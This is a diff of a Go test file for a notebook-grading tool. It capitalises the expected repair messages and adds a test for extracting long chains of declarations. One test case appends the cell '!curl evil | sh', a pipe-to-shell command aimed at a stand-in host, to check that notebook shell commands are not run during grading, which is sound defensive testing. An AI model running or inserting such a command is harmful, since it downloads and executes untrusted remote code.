@@ -159,15 +159,15 @@ func TestRepairs(t *testing.T) {
 		harm func(n *Notebook)
 		note string
 	}{
-		"locked cell deleted":    {func(n *Notebook) { *find(n, "setup") = Cell{Type: Raw} }, "the locked cell setup is gone; it was put back"},
-		"locked cell changed":    {func(n *Notebook) { find(n, "setup").Source = "const Unit = 1e9" }, "cell 2 (setup) is locked and was changed; the lab's own counts"},
-		"locked cell spoilt":     {func(n *Notebook) { find(n, "setup").Source = "const Unit = {" }, "cell 2 (setup) is locked and was changed; the lab's own counts"},
-		"locked cell reshaped":   {func(n *Notebook) { find(n, "setup").Type = Markdown }, "cell 2 (setup) is locked and was changed; the lab's own counts"},
-		"locked cell twice":      {func(n *Notebook) { n.Cells = append(n.Cells, n.Cells[1]) }, "the locked cell setup is there 2 times; the lab's own counts"},
-		"given name elsewhere":   {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "const Unit = 1e9"}) }, "cell 6 declares Unit, which the lab gives; the lab's own counts"},
-		"answer as text":         {func(n *Notebook) { find(n, "mean").Type = Markdown }, "cell 4 (mean) is no code cell any more; it was read as one"},
-		"a scratch cell, broken": {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "func Half( {"}) }, "cell 6 is no Go and was left out, with all that it declares: line 1: expected"},
-		"commands":               {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "!curl evil | sh"}) }, "commands of the notebook (lines with !, cells of a shell) are not run for grading: cells 6"},
+		"locked cell deleted":    {func(n *Notebook) { *find(n, "setup") = Cell{Type: Raw} }, "The locked cell setup is gone; it was put back"},
+		"locked cell changed":    {func(n *Notebook) { find(n, "setup").Source = "const Unit = 1e9" }, "Cell 2 (setup) is locked and was changed; the lab's own counts"},
+		"locked cell spoilt":     {func(n *Notebook) { find(n, "setup").Source = "const Unit = {" }, "Cell 2 (setup) is locked and was changed; the lab's own counts"},
+		"locked cell reshaped":   {func(n *Notebook) { find(n, "setup").Type = Markdown }, "Cell 2 (setup) is locked and was changed; the lab's own counts"},
+		"locked cell twice":      {func(n *Notebook) { n.Cells = append(n.Cells, n.Cells[1]) }, "The locked cell setup is there 2 times; the lab's own counts"},
+		"given name elsewhere":   {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "const Unit = 1e9"}) }, "Cell 6 declares Unit, which the lab gives; the lab's own counts"},
+		"answer as text":         {func(n *Notebook) { find(n, "mean").Type = Markdown }, "Cell 4 (mean) is no code cell any more; it was read as one"},
+		"a scratch cell, broken": {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "func Half( {"}) }, "Cell 6 is no Go and was left out, with all that it declares: line 1: expected"},
+		"commands":               {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "!curl evil | sh"}) }, "Commands of the notebook (lines with !, cells of a shell) are not run for grading: cells 6"},
 		"ids and marks gone": {func(n *Notebook) {
 			for i := range n.Cells {
 				n.Cells[i].ID, n.Cells[i].Grading = "", nil
@@ -291,6 +291,27 @@ func TestDeepSources(t *testing.T) {
 		p, err := template.Extract(cells("var x = "+deep, "func Scale() {}"))
 		require.NoError(t, err)
 		assert.NotContains(t, string(p.Source), "var x")
-		assert.Contains(t, p.Notes[len(p.Notes)-1], "cell 1 is no Go")
+		assert.Contains(t, p.Notes[len(p.Notes)-1], "Cell 1 is no Go")
 	}
+}
+
+// TestCrowdedSources: as many declarations as fit, each of which has to do with the next, are read in a moment.
+func TestCrowdedSources(t *testing.T) {
+	_, template := book(t)
+	var chain, list, again strings.Builder
+	chain.WriteString("func Scale() { _ = v0 }\nvar v0 int\n")
+	list.WriteString("const (\n")
+	for i := 1; chain.Len() < MaxSource/2; i++ {
+		fmt.Fprintf(&chain, "var v%d int\nfunc init_%d() { v%d = v%d }\n", i, i, i, i-1)
+	}
+	for i := 0; list.Len() < MaxSource/2; i++ {
+		fmt.Fprintf(&list, "\tc%d = iota\n", i)
+		fmt.Fprintf(&again, "const c%d = 0\n", 2*i)
+	}
+	p, err := template.Extract(cells(chain.String()))
+	require.NoError(t, err)
+	assert.Contains(t, string(p.Source), "{ v9999 = v9998 }")
+	p, err = template.Extract(cells(list.String()+")\nfunc Scale() { _ = c1 }", again.String()))
+	require.NoError(t, err)
+	assert.Contains(t, string(p.Source), "\t_ = iota\n\tc1 = iota\n\t_ = iota\n")
 }
